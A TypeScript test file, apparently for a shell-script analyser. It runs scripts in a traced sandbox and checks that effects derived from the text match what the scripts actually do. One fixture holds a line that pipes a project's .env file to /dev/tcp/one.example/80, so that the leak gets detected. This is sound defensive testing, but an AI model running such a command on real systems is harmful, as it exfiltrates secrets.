/**
 * Scripts that are run for real, in a sandbox, do nothing that is not derived of their text. Where there can be no
 * sandbox, nothing is run: a campaign fails then, and the sample of the gate is left out and says why.
 */
import { describe, expect, test } from 'vitest';
import { chanceOf } from '../pattern/path-pairs.ts';
import { absent, cases, endings, isRunnable } from './differential/cases.ts';
import { coverageOf, effectsOf, showDeed, showEffects } from './differential/compare.ts';
import { count, emptyFigures, tableOf } from './differential/figures.ts';
import { generate, namesOf, type Script } from './differential/generate.ts';
import { generateBody, interpreters } from './differential/interpreters.ts';
import { falseExcuses, type Judged, judgeAll } from './differential/judge.ts';
import { outside } from './differential/outside.ts';
import { hasDash, whyNot } from './differential/probes.ts';
import { type Deed, hasTracer, runAll } from './differential/sandbox.ts';
import { shrink } from './differential/shrink.ts';
import { effort, isFull, sampled, seed, tell, timeout } from './effort.ts';

/** Whether an excuse that did not happen fails the campaign; they are counted either way. */
const excusesMustHold = true;

const reason = await whyNot();
if (reason !== undefined) console.warn(`scripts are not run, since they cannot be contained: ${reason}`);

if (absent.length > 0) console.warn(`cases with ${absent.join(', ')} are not run: they are not here`);
if (!hasTracer) console.warn('what scripts open, run and connect to is not seen: there is no tracer');

test.runIf(isFull)('scripts are contained, and all that they do is seen', () => {
  expect(reason).toBeUndefined();
  expect(hasTracer).toBe(true);
});

/** What is left of a script: what it read and ran on the way there is for the shells to tell. */
const isChange = ({ what }: Deed): boolean => what === 'created' || what === 'changed' || what === 'deleted';

const missed = (text: string, deeds: readonly Deed[]): readonly Deed[] => {
  const effects = effectsOf(text);
  return deeds.filter((deed) => coverageOf(deed, effects) === 'missed');
};

describe.runIf(reason === undefined)('what scripts do is derived', () => {
  test.runIf(hasTracer)('as what they do is seen', { timeout }, () => {
    const text = `
      x=$(< a.txt)
      cp b.txt copied
      cat .env | (sleep 0.01; cat > /dev/tcp/one.example/80) & wait
      rm list > /dev/null`;
    const [outcome] = runAll([{ shell: 'bash', text }]);
    expect(outcome?.deeds.map(showDeed).sort()).toEqual([
      'connected to one.example',
      'created /home/user/project/copied',
      'deleted /home/user/project/list',
      'leaked /home/user/project/b.txt',
      'opened /home/user/project/.env',
      'opened /home/user/project/a.txt',
      'opened /home/user/project/b.txt',
      'ran cat',
      'ran cat .env',
      'ran cp b.txt copied',
      'ran rm list',
      'ran sleep 0.01',
      'sent /home/user/project/.env to one.example',
    ]);
  });

  test('of those that once did more', { timeout }, () => {
    const tried = sampled(cases.filter(isRunnable), 40);
    const outcomes = runAll(tried.map((text) => ({ shell: 'bash', text })));
    // A case that does nothing shows nothing.
    expect(tried.filter((_, at) => outcomes[at]?.deeds.length === 0)).toEqual([]);
    expect(tried.filter((text, at) => missed(text, outcomes[at]?.deeds ?? []).length > 0)).toEqual([]);
  });

  test('and none of these excuses a call by what does not run', { timeout }, () => {
    const tried = endings.filter(({ shell }) => shell !== 'dash' || hasDash);
    const judged = judgeAll(
      tried.map(
        ({ shell, text }): Script => ({
          shell,
          front: [],
          around: [],
          effect: { name: text, bash: shell === 'bash', text },
          behind: [],
        }),
      ),
    );
    // `grep` is in the text, and does not run.
    expect(judged.filter(({ outcome }) => outcome.printed !== '')).toEqual([]);
    expect(judged.flatMap(falseExcuses)).toEqual([]);
  });

  test('except for what is known to be outside', { timeout }, () => {
    const shown = outside.filter(({ shell }) => shell !== 'dash' || hasDash);
    const outcomes = runAll(shown.map(({ example, shell = 'bash' }) => ({ shell, text: example })));
    const isShown = ({ example, test, shell = 'bash' }: (typeof shown)[number], at: number): boolean => {
      const outcome = outcomes[at];
      return outcome !== undefined && test(example, outcome, shell);
    };
    expect(shown.filter((each, at) => !isShown(each, at))).toEqual([]);
    const [hidden] = runAll([{ shell: 'bash', text: 'cd nope 2>/dev/null' }]);
    expect(hidden?.isLost).toBe(hasTracer);
    const fixed = shown.filter(({ example }, at) => missed(example, outcomes[at]?.deeds ?? []).length === 0);
    expect(fixed.map(({ example, why }) => ({ example, why }))).toEqual([]);
  });

  test.each(interpreters)('of generated ones for $program', { timeout }, ({ show: write }) => {
    const chance = chanceOf(seed);
    const misses: string[] = [];
    const all = effort(1000, 8);
    for (let done = 0; done < all; done += 500) {
      const texts = Array.from({ length: Math.min(500, all - done) }, () => write(generateBody(chance)));
      for (const [at, { deeds }] of runAll(texts.map((text) => ({ shell: 'bash', text }))).entries()) {
        const text = texts[at] ?? '';
        const open = missed(text, deeds.filter(isChange));
        if (open.length > 0) misses.push(`${open.map(showDeed).join(', ')}\n${text}`);
      }
    }
    expect(misses.sort((one, other) => one.length - other.length).slice(0, 3)).toEqual([]);
  });

  test('of generated ones', { timeout }, () => {
    const all = effort(10_000, 10);
    const chance = chanceOf(seed);
    const figures = emptyFigures();
    const misses: Judged[] = [];
    const excuses: Judged[] = [];
    for (let done = 0; done < all; done += 500) {
      const scripts = Array.from({ length: Math.min(500, all - done) }, () => generate(chance)).map(
        (script): Script => (hasDash ? script : { ...script, shell: 'bash' }),
      );
      for (const judged of judgeAll(scripts)) {
        count(figures, judged);
        if (judged.open.length > 0) misses.push(judged);
        if (falseExcuses(judged).length > 0) excuses.push(judged);
      }
    }
    tell({
      scripts: all,
      'scripts that did nothing': figures.quiet,
      'scripts with a program of another language': figures.code,
      ...figures.deeds,
      'scripts with a miss that is outside': figures.outside,
      'scripts with an excuse that did not happen': excuses.length,
    });
    if (isFull) console.log(tableOf(figures.constructs));
    const report = reportOf(misses, ({ open }) => open.length > 0);
    expect(`${misses.length} misses\n${report}`).toBe('0 misses\n');
    if (!excusesMustHold) return;
    const excused = reportOf(excuses, (judged) => falseExcuses(judged).length > 0);
    expect(`${excuses.length} excuses that did not happen\n${excused}`).toBe(
      '0 excuses that did not happen\n',
    );
  });
});

/** Some of what was found, one of each group, as short as they go. */
function reportOf(found: readonly Judged[], isFound: (judged: Judged) => boolean): string {
  const groups = new Map<string, string>();
  for (const judged of shrink(found.slice(0, 20 * effort(10, 1)), isFound)) {
    const group = namesOf(judged.script).join(' | ');
    if (!groups.has(group) && groups.size < 20 * effort(10, 1)) groups.set(group, show(judged));
  }
  return [...groups].map(([group, text]) => `── ${group}\n${text}`).join('\n');
}

function show(judged: Judged): string {
  const { script, text, open, effects } = judged;
  const excuses = falseExcuses(judged);
  return [
    `${script.shell}: ${text}`,
    ...(open.length === 0 ? [] : [`  did: ${open.map(showDeed).join(', ')}`]),
    ...(open.length === 0 ? [] : [`  derived: ${showEffects(effects, open)}`]),
    ...(excuses.length === 0 ? [] : [`  excused by what did not run: ${excuses.join(', ')}`]),
  ].join('\n');
}
